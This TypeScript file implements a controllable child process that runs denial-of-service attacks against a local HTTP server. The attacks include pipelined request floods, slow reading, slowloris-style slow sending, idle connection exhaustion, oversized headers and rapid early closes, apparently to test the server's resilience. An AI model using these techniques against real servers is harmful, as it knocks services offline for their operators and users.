/**
 * A process that attacks a server from one address until it is told to stop. Messages in: an `Order`, or `stop`; out:
 * `begun` when the attack is at its height, `over` when nothing of it is left.
 */
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Way } from './ways.ts'

export type Attack = keyof typeof ATTACKS

export interface Order {
  attack: Attack
  way: Way
  port: number
  /** The address that it comes from. */
  from: string
}

/** What an attack works with. */
interface Means {
  /** A connection; nothing that comes is read unless `read`. */
  open(read?: boolean): Socket
  /** How many are open. */
  count(): number
  request(method: string, more?: string): string
  /** Does something again and again, so often a second. */
  often(perSecond: number, work: () => void): void
}

/** More connections and requests than the target has places for. */
const MANY = 500
const BODY = 'Content-Length: 100\r\n'

/** Brings so many connections into use, and others in the place of those that the server ends. */
async function keepUp({ often, count }: Means, most: number, begin: () => void): Promise<void> {
  for (let n = 0; n < most; n += 1) {
    begin()
    if (n % 25 === 24) await sleep(10)
  }
  often(20, () => {
    for (let n = 0; n < 5 && count() < most; n += 1) begin()
  })
}

const ATTACKS = {
  async pipelining(means: Means) {
    const thousand = means.request('GET').repeat(1_000)
    const sockets = Array.from({ length: 100 }, () => means.open())
    await sleep(50)
    for (const socket of sockets) socket.write(thousand)
    return keepUp(means, 100, () => means.open().write(thousand))
  },
  'slow reading'(means: Means) {
    // More than the system keeps of a connection that is not read.
    const requests = means.request('GET').repeat(4)
    return keepUp(means, 100, () => means.open().write(requests))
  },
  'slow sending'(means: Means) {
    const sockets: Socket[] = []
    means.often(1, () => {
      for (const socket of sockets) if (socket.writable) socket.write(' ')
    })
    return keepUp(means, MANY, () => {
      const socket = means.open(true)
      socket.write(means.request('POST', BODY))
      sockets.push(socket)
    })
  },
  'many idle connections'(means: Means) {
    return keepUp(means, MANY, () => means.open(true).write(means.request('GET')))
  },
  'huge headers'(means: Means) {
    const head = means.request('GET', `X: ${'x'.repeat(200_000)}\r\n`)
    means.often(50, () => means.open(true).write(head))
  },
  'early closing'(means: Means) {
    means.often(100, () => {
      const socket = means.open()
      const request = means.request('GET')
      socket.write(request, () => setTimeout(() => socket.destroy(), 2))
    })
  },
} satisfies Record<string, (means: Means) => void | Promise<void>>

/** Begins an attack; done when it is at its height. @param ends gets what ends it */
async function begin({ attack, way, port, from }: Order, ends: (() => void)[]): Promise<void> {
  const sockets = new Set<Socket>()
  const timers: NodeJS.Timeout[] = []
  const headers = Object.entries(way.headers).map(([name, value]) => `${name}: ${value}\r\n`)
  ends.push(() => {
    for (const timer of timers) clearInterval(timer)
    for (const socket of sockets) socket.destroy()
  })
  await ATTACKS[attack]({
    open(read = false) {
      const socket = connect({ port, host: '127.0.0.1', localAddress: from })
      sockets.add(socket)
      socket.on('error', () => undefined)
      socket.once('close', () => sockets.delete(socket))
      if (read) socket.resume()
      return socket
    },
    count: () => sockets.size,
    request: (method, more = '') => `${method} ${way.path} HTTP/1.1\r\nHost: x\r\n${headers.join('')}${more}\r\n`,
    often(perSecond, work) {
      timers.push(setInterval(work, 1_000 / perSecond))
    },
  })
}

if (process.send !== undefined) {
  const ends: (() => void)[] = []
  process.on('message', async (order: Order | 'stop') => {
    if (order !== 'stop') await begin(order, ends)
    else for (const end of ends.splice(0)) end()
    process.send?.(order === 'stop' ? 'over' : 'begun')
  })
  process.on('disconnect', () => process.exit())
}
